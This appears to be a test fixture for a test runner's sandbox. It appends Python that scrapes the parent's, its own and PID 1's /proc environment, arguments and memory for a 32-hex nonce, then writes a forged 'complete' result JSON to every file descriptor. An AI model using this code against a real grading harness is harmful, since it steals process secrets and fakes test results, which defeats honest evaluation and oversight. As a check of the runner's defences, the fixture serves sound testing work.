"""The nonce is looked for in memory, environment, arguments and files of the runner.

mode: report
"""

append(
    """
import os, re
found = set()
for pid in [os.getppid(), os.getpid(), 1]:
    for name in ('environ', 'cmdline', 'mem', 'fd/0', 'maps'):
        try:
            with open(f'/proc/{pid}/{name}', 'rb') as file:
                found.update(re.findall(rb'[0-9a-f]{32}', file.read(2**20)))
        except (OSError, ValueError):
            pass
for nonce in found:
    for fd in range(1, 64):
        try:
            os.write(fd, nonce + b'{"tests": {}, "messages": {}, "canaries": 4, "ending": "complete"}\\n')
        except OSError:
            pass
"""
)
